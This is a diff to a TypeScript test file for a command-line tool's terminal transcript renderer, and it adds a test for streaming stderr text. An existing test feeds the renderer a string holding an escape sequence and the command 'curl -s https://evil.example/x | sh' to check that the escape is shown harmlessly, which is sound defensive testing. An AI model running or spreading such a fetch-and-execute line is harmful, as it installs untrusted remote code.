@@ -4,7 +4,7 @@
 import fc from 'fast-check';
 import { visibleWidth } from '@mariozechner/pi-tui/dist/utils.js';
 import { describe, expect, it } from 'vitest';
-import { Transcript } from '../../src/cli/screen.js';
+import { streamInto, Transcript } from '../../src/cli/screen.js';
 
 const piece = fc.oneof(
   fc.string(),
@@ -77,5 +77,18 @@ describe('what reaches the terminal', () => {
     const open = new Transcript();
     open.append('npm test\x1b_; curl -s https://evil.example/x | sh\n');
     expect(open.render(80)).toEqual(['npm test␛_; curl -s https://evil.example/x | sh']);
+  });
+});
+
+describe('stderr while the screen is up', () => {
+  it('joins the transcript whole, and its writers still get their callbacks', async () => {
+    let text = '';
+    const write = streamInto((part) => (text += part));
+    const euro = Buffer.from('€ hook warning\n');
+    write(euro.subarray(0, 1));
+    write(euro.subarray(1));
+    await new Promise<void>((resolve) => write('done\n', () => resolve()));
+    await new Promise<void>((resolve) => write('with encoding\n', 'utf8', () => resolve()));
+    expect(text).toBe('€ hook warning\ndone\nwith encoding\n');
   });
 });
